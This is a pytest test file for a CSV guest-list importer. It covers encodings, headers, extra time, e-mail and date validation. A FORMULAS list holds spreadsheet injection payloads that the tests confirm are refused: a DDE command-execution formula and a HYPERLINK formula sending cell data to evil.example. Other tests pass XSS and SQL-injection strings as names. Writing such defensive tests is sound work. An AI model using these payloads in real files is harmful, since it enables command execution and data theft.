"""Files of people as spreadsheets write them, good and bad."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from api.campaigns import people
from api.campaigns.guest_list import Column, GuestList, Known, read_guest_list
from api.campaigns.people import ExtraTime, Guest, UnfitTextError, effective_extra

FRENCH = (
    "Nom;Courriel;Groupe;Temps supplémentaire\nÉlodie Brûlé;elodie@exemple.fr;Lyon;33 %\nYaël N’Diaye;;Lyon;20 min\n"
)
PEOPLE = [
    Guest(name="Élodie Brûlé", email="elodie@exemple.fr", group="Lyon", extra=ExtraTime(percent=33)),
    Guest(name="Yaël N’Diaye", group="Lyon", extra=ExtraTime(ms=1_200_000)),
]


def guests(found: GuestList) -> list[Guest]:
    return [one.guest for one in found.people]


def said(found: GuestList) -> list[tuple[int, str | None, str]]:
    return [(one.line, one.column, one.fault.message % one.fault.facts) for one in found.faults]


def read(text: str) -> GuestList:
    return read_guest_list(text.encode())


# -- what is taken


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"], ids=["lf", "crlf", "cr"])
def test_files_of_every_spreadsheet_say_the_same(encoding, delimiter, end):
    text = FRENCH.replace(";", delimiter).replace("\n", end)
    found = read_guest_list(text.encode(encoding))
    assert (guests(found), said(found)) == (PEOPLE, [])
    assert found.delimiter == delimiter


@pytest.mark.parametrize("first", ["sep=;\n", "sep=;\r\n", "SEP=;\n"], ids=ascii)
def test_the_line_that_excel_writes_for_itself_is_no_person(first):
    found = read(first + FRENCH)
    assert guests(found) == PEOPLE
    assert [one.line for one in found.people] == [3, 4]


@pytest.mark.parametrize(
    ("header", "columns"),
    [
        ("Name,E-mail,Group,Extra time", [Column.NAME, Column.EMAIL, Column.GROUP, Column.EXTRA]),
        ("NOM;PRÉNOM;ADRESSE E-MAIL", [Column.LAST_NAME, Column.FIRST_NAME, Column.EMAIL]),
        ("Prénom\tNom\tLangue", [Column.FIRST_NAME, Column.LAST_NAME, Column.LANGUAGE]),
        ("nom,étiquettes,tiers temps", [Column.NAME, Column.LABELS, Column.EXTRA]),
        ("First name,Surname,Ref,Notes", [Column.FIRST_NAME, Column.LAST_NAME, Column.REFERENCE, None]),
    ],
)
def test_columns_are_known_by_their_names_in_both_languages(header, columns):
    assert list(read(f"{header}\n").columns.values()) == columns


def test_first_and_last_names_are_put_together():
    assert guests(read("Nom;Prénom\nCurie;Marie\n;Plume\n")) == [Guest(name="Marie Curie"), Guest(name="Plume")]


def test_quoted_cells_hold_delimiters_and_quotation_marks():
    found = read('name,group\n"Smith, Jo ""JJ""","Lyon; 2e"\n')
    assert guests(found) == [Guest(name='Smith, Jo "JJ"', group="Lyon; 2e")]


def test_missing_cells_and_empty_lines_are_no_faults():
    found = read("\nname;email;group\n\nAda\n;;\n   \nBo;bo@example.org;\n")
    assert guests(found) == [Guest(name="Ada"), Guest(name="Bo", email="bo@example.org")]
    assert [one.line for one in found.people] == [4, 7]


@pytest.mark.parametrize(
    ("text", "extra"),
    [
        ("33%", ExtraTime(percent=33)),
        ("33 %", ExtraTime(percent=33)),
        ("+33\u202f%", ExtraTime(percent=33)),
        ("20", ExtraTime(ms=1_200_000)),
        ("20 min", ExtraTime(ms=1_200_000)),
        ("+20 minutes", ExtraTime(ms=1_200_000)),
        ("20,0", ExtraTime(ms=1_200_000)),
        ("0", ExtraTime()),
        ("", None),
    ],
    ids=ascii,
)
def test_extra_time_is_a_share_or_minutes(text, extra):
    assert guests(read(f'name;extra time\nAda;"{text}"\n'))[0].extra == extra


def test_labels_and_languages_are_read():
    found = read("name;labels;langue\nAda;tiers-temps, a11y|tiers-temps;Français\nBo;;EN\n")
    assert guests(found) == [
        Guest(name="Ada", labels=("tiers-temps", "a11y"), language="fr"),
        Guest(name="Bo", language="en"),
    ]


def test_whoever_was_invited_before_is_left_out_and_named():
    known = Known(emails=frozenset({"ada@example.org"}), references=frozenset({"7"}))
    found = read_guest_list(b"name,email,ref\nAda,ADA@example.org,\nBo,bo@example.org,7\nCy,cy@example.org,8\n", known)
    assert [one.line for one in found.before] == [2, 3]
    assert [guest.name for guest in guests(found)] == ["Cy"]
    assert not found.faults


def test_two_thousand_people_are_taken_and_one_more_is_not():
    lines = [f"Person {number},p{number}@example.org" for number in range(2_001)]
    assert len(read("\n".join(["name,email", *lines[:2_000]])).people) == 2_000
    found = read("\n".join(["name,email", *lines]))
    assert said(found) == [(2_002, None, "There are more lines than can be taken at once.")]
    assert not found.people


# -- what is refused, by line and column


def test_every_fault_of_every_line_is_found_at_once():
    found = read(
        "Name;E-mail;Extra time;Langue\n"
        "Ada;ada@example.org;33 %;fr\n"
        ";nobody@example.org;;\n"
        "Bo;bo@;a lot;klingon\n"
        "Cy;ADA@EXAMPLE.ORG;;\n"
        "Di;di@example.org;;;surplus\n"
    )
    assert said(found) == [
        (3, "Name", "The name is missing."),
        (4, "E-mail", "This is no e-mail address."),
        (4, "Langue", "This language is not known here."),
        (4, "Extra time", "This is no extra time."),
        (5, "E-mail", "The same stands in line 2."),
        (6, None, "This line has more cells than the first line has columns."),
    ]
    assert guests(found) == [Guest(name="Ada", email="ada@example.org", extra=ExtraTime(percent=33), language="fr")]


def test_lines_are_counted_as_an_editor_counts_them():
    found = read('name;group\n"Ada";"two\nlines"\nBo;ok\n;late\n')
    assert [(line, column) for line, column, _ in said(found)] == [(2, "group"), (5, "name")]


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "＝1+1",
    "  =1",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
@pytest.mark.parametrize("column", ["name", "group", "email", "ref", "labels"])
def test_a_cell_that_a_spreadsheet_would_run_is_refused(formula, column):
    cell = '"' + formula.replace('"', '""') + '"'
    header, line = ("name", cell) if column == "name" else (f"name;{column}", f"Ada;{cell}")
    found = read(f"{header}\n{line}\n")
    assert [(line, place) for line, place, _ in said(found)] == [(2, column)]
    assert not found.people


@pytest.mark.parametrize("name", ["a\u202eb", "a\x07b", "a\x1bb", "a\u2066b", "x" * 121], ids=ascii)
def test_names_hold_nothing_invisible_and_are_not_endless(name):
    assert [(line, column) for line, column, _ in said(read(f"name\n{name}\n"))] == [(2, "name")]


@pytest.mark.parametrize("name", ["<script>alert(1)</script>", "'; DROP TABLE x;--", "{{7*7}}", "王小明", "O’Neil-Þór"])
def test_names_are_what_people_are_called(name):
    """Escaping is up to whoever shows a name."""
    assert guests(read(f'name,group\n"{name}",g\n')) == [Guest(name=name, group="g")]


@pytest.mark.parametrize(
    "address",
    [
        "ada",
        "ada@",
        "@example.org",
        "ada@example",
        "a b@example.org",
        "ada@exa mple.org",
        "ada@@example.org",
        "ada@example..org",
        "ada@example.org, bo@example.org",
        "Ada <ada@example.org>",
        "ada@example.org\u202e",
        f"{'x' * 65}@example.org",
        f"a@{'x' * 250}.org",
    ],
    ids=ascii,
)
def test_what_is_no_address_is_refused(address):
    assert [(line, column) for line, column, _ in said(read(f'name;email\nAda;"{address}"\n'))] == [(2, "email")]


@pytest.mark.parametrize(
    "address", ["ada@example.org", "a.d+a@sub.example.co", "élodie@exämple.fr", "o'neil@example.org"]
)
def test_addresses_of_real_people_are_taken(address):
    assert guests(read(f"name;email\nAda;{address}\n"))[0].email == address


@pytest.mark.parametrize("text", ["a lot", "-5", "401 %", "601", "1/3", "33 % %", "1e3"], ids=ascii)
def test_what_is_no_extra_time_is_refused(text):
    assert [(line, column) for line, column, _ in said(read(f"name;extra\nAda;{text}\n"))] == [(2, "extra")]


NOTHING_TO_READ = {
    "empty": (b"", 1, "The file is empty."),
    "blank": (b"\n \n\n", 1, "The file is empty."),
    "workbook": (b"PK\x03\x04rest", 1, "This is a workbook, not a CSV file."),
    "old workbook": (b"\xd0\xcf\x11\xe0rest", 1, "This is a workbook, not a CSV file."),
    "nul": (b"name\nA\0da\n", 1, "The characters of this file cannot be read."),
    "half of utf-16": (b"\xff\xfea", 1, "The characters of this file cannot be read."),
    "nobody": (b"name;email\n", 1, "There is nobody in this file."),
    "no header": (b"Ada;ada@example.org\n", 1, "No column has the names of the people."),
    "twice": (b"name;email;mail\nAda;a@example.org;\n", 1, "Two columns say the same."),
    "open quote": (b'name\nAda\n"Bo\nCy\n', 3, "The quotation marks in this line do not match."),
    "stray quote": (b'name;group\n"Ada"x;g\n', 2, "The quotation marks in this line do not match."),
    "columns": (b"name\n" + b";" * 100 + b"\n", 2, "This line has too many columns."),
    "large": (b"name\n" + b"x" * (1 << 20), 1, "The file is too large."),
}


@pytest.mark.parametrize("name", NOTHING_TO_READ)
def test_what_is_no_list_of_people_is_said_in_plain_words(name):
    data, line, message = NOTHING_TO_READ[name]
    found = read_guest_list(data)
    assert [(one[0], one[2]) for one in said(found)] == [(line, message)]
    assert not found.people


def test_people_of_the_same_name_are_pointed_out_but_taken():
    found = read("name;email\nAda Byron;\nADA BYRON;\nAda Byron;ada@example.org\n")
    assert len(found.people) == 3
    assert [(one.line, one.fault.facts["line"]) for one in found.notices] == [(3, "2")]


# -- properties


@given(st.binary(max_size=300))
def test_any_bytes_are_looked_at_without_failing(data):
    found = read_guest_list(data)
    assert found.people or found.faults


cells = st.text(st.characters(categories=["L", "N", "P", "Zs", "S"], exclude_characters="=+-@＝＋－＠"), max_size=12)


@settings(max_examples=60)
@given(st.lists(st.tuples(cells.filter(str.strip), cells), max_size=6), st.sampled_from(",;\t"), st.booleans())
def test_whatever_a_csv_writer_writes_is_read_back(rows, delimiter, marked):
    written = io.StringIO(newline="")
    csv.writer(written, delimiter=delimiter).writerows([("name", "group"), *rows])
    found = read_guest_list(written.getvalue().encode("utf-8-sig" if marked else "utf-8"))
    expected = [(" ".join(name.split(" ")).strip(), group.strip() or None) for name, group in rows]
    assert [(guest.name, guest.group) for guest in guests(found)] == expected


# -- extra time


def test_what_was_said_of_a_person_goes_before_their_labels():
    by_label = {"tiers-temps": ExtraTime(percent=33), "pause": ExtraTime(ms=600_000), "double": ExtraTime(percent=100)}
    assert effective_extra(ExtraTime(ms=5), ("tiers-temps",), by_label) == ExtraTime(ms=5)
    assert effective_extra(None, ("tiers-temps", "pause", "other"), by_label) == ExtraTime(percent=33, ms=600_000)
    assert effective_extra(None, ("double", "tiers-temps"), by_label) == ExtraTime(percent=100)
    assert effective_extra(None, ("Tiers-Temps",), by_label) == effective_extra(None, ("tiers-temps",), by_label)
    assert effective_extra(None, (), by_label) == ExtraTime()


def test_extra_time_is_a_share_of_the_time_and_minutes_on_top():
    assert ExtraTime(percent=33, ms=60_000).of(3_600_000) == 1_188_000 + 60_000
    assert ExtraTime(percent=33).of(1) == 1


NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("typed", "moment"),
    [
        ("", None),
        ("31/12/2026", "2026-12-31T23:00:00+00:00"),
        ("1.7.2027", "2027-07-01T22:00:00+00:00"),
        ("2026-12-31", "2026-12-31T23:00:00+00:00"),
        ("2026-12-31T18:00", "2026-12-31T17:00:00+00:00"),
        (" 31/12/2026  18h30 ", "2026-12-31T17:30:00+00:00"),
        ("31/12/2026 à 8:05", "2026-12-31T07:05:00+00:00"),
        ("22/11/2026", "2026-11-22T23:00:00+00:00"),
    ],
)
def test_days_are_read_as_people_write_them_and_count_whole(typed, moment):
    read = people.read_expiry(typed, "Europe/Paris", NOW)
    assert (None if read is None else read.isoformat()) == moment


@pytest.mark.parametrize("typed", ["soon", "31/02/2027", "31/12/26", "2026-13-01", "9999-12-31", "31/12/2026 25:00"])
def test_what_is_no_day_is_said_so(typed):
    with pytest.raises(UnfitTextError, match="This is no day"):
        people.read_expiry(typed, "Europe/Paris", NOW)


@pytest.mark.parametrize("typed", ["21/11/2026", "22/11/2026 12:59", "2020-01-01"])
def test_a_day_that_has_passed_is_refused(typed):
    with pytest.raises(UnfitTextError, match="passed"):
        people.read_expiry(typed, "Europe/Paris", NOW)
